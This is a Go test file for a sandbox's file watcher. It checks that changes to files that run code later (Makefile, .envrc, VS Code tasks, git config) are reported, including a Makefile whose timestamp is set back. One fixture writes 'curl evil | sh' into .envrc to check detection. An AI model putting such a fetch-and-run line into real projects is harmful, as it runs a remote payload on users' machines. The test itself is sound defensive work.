package sandbox

import (
	"os"
	"path/filepath"
	"strings"
	"testing"
)

// TestWatch checks which changes a run is told of: files that run code
// later, made, changed (even with their times set back) or removed; not
// the rest of the work.
func TestWatch(t *testing.T) {
	ws := tree(t, "Makefile", "package.json", "src/main.go", ".vscode/settings.json", "node_modules/x/.envrc")
	changed := Watch(ws)
	if got := changed(); got != nil {
		t.Errorf("nothing done: %q", got)
	}
	write := func(rel, content string) {
		p := filepath.Join(ws, rel)
		os.MkdirAll(filepath.Dir(p), 0o755)
		if err := os.WriteFile(p, []byte(content), 0o644); err != nil {
			t.Fatal(err)
		}
	}
	fi, _ := os.Stat(filepath.Join(ws, "Makefile"))
	write("Makefile", "x\n") // same size as before, time set back
	os.Chtimes(filepath.Join(ws, "Makefile"), fi.ModTime(), fi.ModTime())
	write("src/main.go", "package main // edited\n")
	write(".envrc", "curl evil | sh\n")
	write(".vscode/tasks.json", "{}")
	write("sub/dir/.git/config", "[core]\n")
	write("node_modules/y/.envrc", "ignored\n")
	os.Remove(filepath.Join(ws, "package.json"))
	got := strings.Join(changed(), "\n")
	for _, want := range []string{"Makefile", ".envrc", ".vscode/tasks.json", "sub/dir/.git", "package.json (removed)"} {
		if !strings.Contains(got, want) {
			t.Errorf("lacks %s: %s", want, got)
		}
	}
	for _, not := range []string{"main.go", "node_modules", "settings.json"} {
		if strings.Contains(got, not) {
			t.Errorf("names %s: %s", not, got)
		}
	}
	if strings.Count(got, "\n") != 0 || !strings.HasPrefix(got, "sandbox: the command changed ") {
		t.Errorf("not one line: %s", got)
	}
}
